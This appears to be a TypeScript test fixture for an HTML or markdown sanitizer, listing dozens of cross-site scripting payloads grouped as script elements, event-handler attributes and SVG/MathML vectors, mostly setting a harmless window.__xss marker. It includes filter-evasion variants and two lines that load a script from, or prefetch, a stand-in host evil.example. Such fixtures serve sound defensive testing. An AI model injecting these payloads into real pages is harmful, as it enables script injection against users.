// Elements and attributes that run scripts by themselves.
import { payloads } from './payload.ts'

export const scriptPayloads = payloads({
  script: '<script>window.__xss=1</script>',
  'script in capitals': '<SCRIPT TYPE="text/javascript">window.__xss=1</SCRIPT>',
  'script with a space before its end': '<script >window.__xss=1</script >',
  'script with a slash for a space': '<script/x>window.__xss=1</script>',
  'script inside script': '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  'script of a data URL': '<script src="data:text/javascript,window.__xss=1"></script>',
  'module of a data URL': '<script type="module" src="data:text/javascript,window.__xss=1"></script>',
  'script from elsewhere': '<script src="//evil.example/x.js"></script>',
  'script inside a paragraph': 'text <script>window.__xss=1</script> text',
  'script in a list': '- one\n- <script>window.__xss=1</script>',
  'script in a table': '| a |\n|---|\n| <script>window.__xss=1</script> |',
  'script in a heading': '## <script>window.__xss=1</script>',
  'script in a quotation': '> <script>window.__xss=1</script>',
  'script in a footnote': 'note[^x]\n\n[^x]: <script>window.__xss=1</script>',
  'import map':
    '<script type="importmap">{"imports":{"react":"data:text/javascript,window.__xss=1"}}</script>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>',
})

export const handlerPayloads = payloads({
  'image that fails': '<img src=x onerror=window.__xss=1>',
  'image with a quoted handler': '<img src="x" onerror="window.__xss=1">',
  'image without spaces': '<img/src=x/onerror=window.__xss=1>',
  'image with a line feed': '<img\nsrc=x\nonerror=window.__xss=1>',
  'image with a tab and a form feed': '<img\tsrc=x\fonerror=window.__xss=1>',
  'handler in capitals': '<IMG SRC=x ONERROR=window.__xss=1>',
  'handler in entities': '<img src=x onerror="&#119;indow.__xss&#61;1">',
  'handler in backticks': '<img src=x onerror=`window.__xss=1`>',
  'image with srcset': '<img srcset="x 1x, y 2x" onerror="window.__xss=1">',
  'picture with a source': '<picture><source srcset="x"><img src=x onerror=window.__xss=1></picture>',
  'image that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=window.__xss=1>',
  'body that loads': '<body onload=window.__xss=1>',
  'details that open': '<details open ontoggle=window.__xss=1><summary>x</summary></details>',
  'field that takes the focus': '<input autofocus onfocus=window.__xss=1>',
  'field that loses it': '<input autofocus onblur=window.__xss=1><input autofocus>',
  'paragraph with a tabindex': '<p tabindex=1 id=grab autofocus onfocus=window.__xss=1>x</p>',
  'video without a source': '<video><source onerror=window.__xss=1></video>',
  'sound that fails': '<audio src=x onerror=window.__xss=1></audio>',
  'style that animates':
    '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=window.__xss=1>x</p>',
  'marquee that starts': '<marquee onstart=window.__xss=1>x</marquee>',
  'popover that opens':
    '<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=window.__xss=1>y</div>',
  'scroll into view':
    '<div onscrollend=window.__xss=1 style="overflow:auto;height:9px"><br><br><p>x</p></div>',
  'mouse over': '<b onmouseover=window.__xss=1 onpointerenter=window.__xss=1>x</b>',
  'custom element': '<x-y onclick=window.__xss=1 style="position:fixed;inset:0">x</x-y>',
  'hidden until found': '<div hidden=until-found onbeforematch=window.__xss=1>x</div>',
})

export const foreignPayloads = payloads({
  'svg that loads': '<svg onload=window.__xss=1></svg>',
  'svg with a script': '<svg><script>window.__xss=1</script></svg>',
  'svg with a script elsewhere': '<svg><script href="data:text/javascript,window.__xss=1"/></svg>',
  'svg script with xlink': '<svg><script xlink:href="data:text/javascript,window.__xss=1"></script></svg>',
  'svg that animates a link':
    '<svg><a><animate attributeName=href values="javascript:window.__xss=1"/><text y=20>x</text></a></svg>',
  'svg that sets a link':
    '<svg><a id=l><set attributeName="xlink:href" to="javascript:window.__xss=1"/><text y=9>x</text></a></svg>',
  'svg with a link': '<svg><a xlink:href="javascript:window.__xss=1"><text y=20>x</text></a></svg>',
  'svg animation that begins': '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s /></svg>',
  'svg that uses a document':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%27http://www.w3.org/2000/svg%27 onload=%27window.__xss=1%27/>#x"/></svg>',
  'svg with foreign content': '<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>',
  'svg with a title': '<svg><title><img src=x onerror=window.__xss=1></title></svg>',
  'svg as an image':
    '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27window.__xss=1%27/>">',
  'math with a link': '<math href="javascript:window.__xss=1">x</math>',
  'math with an action':
    '<math><maction actiontype="statusline#x" xlink:href="javascript:window.__xss=1">x</maction></math>',
})
